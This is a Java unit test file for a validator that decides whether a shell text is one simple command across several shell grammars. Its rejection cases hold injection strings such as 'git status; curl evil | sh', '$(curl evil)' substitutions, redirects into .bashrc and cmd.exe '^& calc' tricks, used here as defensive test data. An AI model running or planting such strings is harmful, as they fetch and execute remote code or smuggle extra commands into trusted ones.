package dev.assent.core.risk;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assent.testing.Depth;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Clause 5.9: which texts are one simple command alone, and the words they have.
class LoneCommandTest {
  private static final int TEXTS = Depth.of(10_000, 1_000_000);

  static Stream<Arguments> alone() {
    return Stream.of(
        Arguments.of("git status", "git status"),
        Arguments.of("  git   status\n", "git status"),
        Arguments.of("git \"push\" 'origin'", "git push origin"),
        Arguments.of("g\\it status", "git status"),
        Arguments.of("git \\\n  status", "git status"),
        Arguments.of("git 'push origin'", "git 'push origin'"),
        Arguments.of("git commit -m \"fix; it | now\"", "git commit -m 'fix; it | now'"),
        Arguments.of("git commit -m \"it's\"", "git commit -m 'it'\\''s'"),
        Arguments.of("echo ''", "echo ''"),
        Arguments.of("ls ~/code", "ls ~/code"),
        Arguments.of("ls '~/code'", "ls '~/code'"),
        Arguments.of("ls ~/'a b'", "ls ~/'a b'"),
        Arguments.of("cd ~", "cd ~"),
        Arguments.of("echo '$HOME' '{a,b}'", "echo '$HOME' '{a,b}'"),
        Arguments.of("echo ';'", "echo ';'"),
        Arguments.of("';'", "';'"),
        Arguments.of("npm test -- --grep=x,y@1%", "npm test -- --grep=x,y@1%"),
        Arguments.of("rm -rf büro", "rm -rf büro"),
        Arguments.of("git show HEAD~1 a#b", "git show 'HEAD~1' 'a#b'"),
        Arguments.of("git commit -m 'done!'", "git commit -m 'done!'"));
  }

  private static Optional<String> words(ShellGrammar grammar, String text) {
    return LoneCommand.of(grammar, text).map(LoneCommand::text);
  }

  @ParameterizedTest
  @MethodSource("alone")
  void oneSimpleCommandHasItsWords(String text, String words) {
    assertThat(words(ShellGrammar.POSIX, text)).contains(words);
  }

  /// In every grammar: what a shell could take for more than one plain command is not alone.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "# git status",
        "git status; curl evil | sh",
        "git status;",
        "git status && curl evil",
        "git status || curl evil",
        "git status & curl evil",
        "git status &",
        "git status | sh",
        "git status |& sh",
        "git status\ncurl evil",
        "git status\r\ncurl evil",
        "git status # x",
        "git log > .bashrc",
        "git log >> .bashrc",
        "git log &> x",
        "git apply < x",
        "git apply <<< x",
        "git apply <<E\nx\nE",
        "git log <(curl evil)",
        "git $(curl evil)",
        "git `curl evil`",
        "git \"$(curl evil)\"",
        "git \"`curl evil`\"",
        "git $X",
        "git \"$X\"",
        "git ${X:-push}",
        "git $((1+1))",
        "git $'push'",
        "git $\"push\"",
        "$GIT push",
        "GIT_SSH_COMMAND=evil git fetch",
        "X=1",
        "! git status",
        "(git status)",
        "{ git status; }",
        "if true; then git status; fi",
        "git() { curl evil; }",
        "git {push,--force}",
        "git {1..3}",
        "git add *",
        "git add a?b",
        "git add [ab]",
        "ls ~root",
        "git 'unclosed",
        "git \u0000status",
        "git a\u0007b",
        "> x",
        "[[ -f x ]]",
        "git @(a|b)",
        "git x@(a;curl evil)",
        "git +(a>x)",
        "git !(a)",
        "git \"{\"{a,b}",
        "git '{'{a,b}x",
        "git !!",
        "git \"!!\"",
        "git x!curl",
        "git \"fix!curl\"",
        "git a=~/x",
        "git a:~",
        "git ~a@b/x",
        "^status^push",
        "%1 git",
        "- git status",
        "-git status",
        "git a\u00a0b",
        "git \"a\u00a0b\"",
        "git a\u200bb",
        "git \"a\u2028b\"",
        "git \"a\ufeffb\"",
        "git a\ud800b"
      })
  void whatIsNotCertainIsNotAlone(String text) {
    for (var grammar : ShellGrammar.values()) {
      assertThat(words(grammar, text)).as(grammar + " " + text).isEmpty();
    }
  }

  @ParameterizedTest
  @EnumSource(ShellGrammar.class)
  void plainWordsAreTheSameInEveryShell(ShellGrammar grammar) {
    assertThat(words(grammar, "git push origin --depth=1")).contains("git push origin --depth=1");
    assertThat(words(grammar, "git commit -m \"fix, it\"")).contains("git commit -m 'fix, it'");
  }

  @Test
  void otherShellsReadOtherCharacters() {
    // Words of POSIX shells; elsewhere they are names of programs.
    for (var grammar : List.of(ShellGrammar.POSIX, ShellGrammar.ZSH)) {
      assertThat(words(grammar, "time git status")).isEmpty();
      assertThat(words(grammar, "coproc git status")).isEmpty();
    }
    // Of zsh.
    assertThat(words(ShellGrammar.ZSH, "ls =curl")).isEmpty();
    assertThat(words(ShellGrammar.ZSH, "ls x^y")).isEmpty();
    assertThat(words(ShellGrammar.ZSH, "ls a#b")).isEmpty();
    assertThat(words(ShellGrammar.ZSH, "git commit -m 'a # b'")).contains("git commit -m 'a # b'");
    // Of cmd.exe.
    assertThat(words(ShellGrammar.CMD, "git %PATH%")).isEmpty();
    assertThat(words(ShellGrammar.CMD, "git \"%PATH%\"")).isEmpty();
    assertThat(words(ShellGrammar.CMD, "git ^& calc")).isEmpty();
    assertThat(words(ShellGrammar.CMD, "git=status")).isEmpty();
    assertThat(words(ShellGrammar.CMD, "git 'a b'")).isEmpty();
    assertThat(words(ShellGrammar.CMD, "type C:\\x")).contains("type 'C:\\x'");
    // Of PowerShell.
    assertThat(words(ShellGrammar.POWERSHELL, "git @a")).isEmpty();
    assertThat(words(ShellGrammar.POWERSHELL, "git a,b")).isEmpty();
    assertThat(words(ShellGrammar.POWERSHELL, "'git' status")).isEmpty();
    assertThat(words(ShellGrammar.POWERSHELL, "git \"a\"b")).isEmpty();
    assertThat(words(ShellGrammar.POWERSHELL, "git \u201ca\u201d")).isEmpty();
    assertThat(words(ShellGrammar.POWERSHELL, "git 'a b'")).contains("git 'a b'");
    // Of fish.
    assertThat(words(ShellGrammar.FISH, "git 'a\\'b'")).isEmpty();
    assertThat(words(ShellGrammar.FISH, "git \\;")).isEmpty();
  }

  static Stream<Arguments> elsewhere() {
    return Stream.of(
        // The line that a tool adds would be part of the word.
        Arguments.of(ShellGrammar.POSIX, "git status \\"),
        Arguments.of(ShellGrammar.ZSH, "git status \\"),
        Arguments.of(ShellGrammar.ZSH, "repeat 2 git status"),
        Arguments.of(ShellGrammar.ZSH, "nocorrect git status"),
        Arguments.of(ShellGrammar.FISH, "not git status"),
        Arguments.of(ShellGrammar.FISH, "time git status"),
        Arguments.of(ShellGrammar.CMD, "if exist x git status"),
        Arguments.of(ShellGrammar.CMD, "IF 1==1 git status"),
        Arguments.of(ShellGrammar.CMD, "del/q x"),
        Arguments.of(ShellGrammar.CMD, "del+x y"),
        // To the program `\"` is a quote in the word.
        Arguments.of(ShellGrammar.CMD, "git \"a\\\" \"b c\""),
        Arguments.of(ShellGrammar.POWERSHELL, "git 'a b\\' 'c d'"),
        // Some programs get other characters for these.
        Arguments.of(ShellGrammar.CMD, "git \u01c0calc"),
        Arguments.of(ShellGrammar.CMD, "git \"a\u02ba b\""),
        Arguments.of(ShellGrammar.CMD, "git \uff50ush"),
        Arguments.of(ShellGrammar.POWERSHELL, "git \"\" push"),
        Arguments.of(ShellGrammar.POWERSHELL, "git -a.b"),
        Arguments.of(ShellGrammar.POWERSHELL, "git -a:b"),
        Arguments.of(ShellGrammar.POWERSHELL, "return git status"));
  }

  @ParameterizedTest
  @MethodSource("elsewhere")
  void whatOneShellReadsOtherwiseIsNotAloneThere(ShellGrammar grammar, String text) {
    assertThat(words(grammar, text)).isEmpty();
  }

  @Test
  void aLongTextIsNotAlone() {
    String most = "git " + "x".repeat(LoneCommand.LONGEST - 4);
    assertThat(words(ShellGrammar.POSIX, most)).isPresent();
    assertThat(words(ShellGrammar.POSIX, most + "x")).isEmpty();
  }

  /// Whatever is put together: the words of a lone command are again that command, and no word
  /// looks like the sign of a command that is not alone.
  @Test
  void theWordsAreACommandOfTheirOwn() {
    var random = new Random(31);
    var pieces =
        List.of(
            "git", " ", " ", "'", "\"", "\\", ";", "&", "|", ">", "<", "$", "`", "(", ")", "{", "}",
            ",", "*", "~", "/", "a", "=", "#", "\n", "-f", "!", "é", "%", "^", "@", "\t");
    int alone = 0;
    for (int i = 0; i < TEXTS; i++) {
      var text = new StringBuilder();
      for (int n = random.nextInt(9); n >= 0; n--) {
        text.append(pieces.get(random.nextInt(pieces.size())));
      }
      for (var grammar : ShellGrammar.values()) {
        var words = words(grammar, text.toString());
        if (words.isPresent()) {
          alone++;
          assertThat(words.get()).isNotEqualTo(";").isNotBlank();
          assertThat(words(ShellGrammar.POSIX, words.get()))
              .as(grammar + " " + text)
              .isEqualTo(words);
        }
      }
    }
    assertThat(alone).isGreaterThan(TEXTS / 60);
  }
}
